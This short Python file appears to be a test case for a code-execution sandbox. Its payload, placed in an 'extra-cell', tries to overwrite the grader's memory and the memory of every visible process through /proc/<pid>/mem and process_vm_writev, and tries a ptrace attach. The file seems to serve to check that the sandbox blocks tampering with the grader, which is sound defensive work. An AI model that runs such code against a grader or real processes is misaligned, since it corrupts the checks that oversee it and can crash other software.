"""Write into the grader's memory through /proc/<pid>/mem, process_vm_writev and ptrace, for the parent and every process it can see."""
WHERE = "extra-cell"
CODE = '''
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
pids = {os.getppid()}
try:
    pids.update(int(p) for p in os.listdir("/proc") if p.isdigit())
except OSError:
    pass
buffer = ctypes.create_string_buffer(b"\\xcc" * 4096)
local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 4096)
hits = []
for pid in pids - {os.getpid()}:
    try:
        with open(f"/proc/{pid}/mem", "r+b") as memory:
            memory.seek(0x400000)
            memory.write(buffer.raw)
        hits.append(("mem", pid))
    except OSError:
        pass
    remote = (ctypes.c_void_p * 2)(0x400000, 4096)
    if libc.process_vm_writev(pid, local, 1, remote, 1, 0) > 0:
        hits.append(("vm_writev", pid))
    if libc.ptrace(16, pid, 0, 0) == 0:
        hits.append(("ptrace", pid))
print("hits", hits)
'''
EXPECT = {"*": "full"}
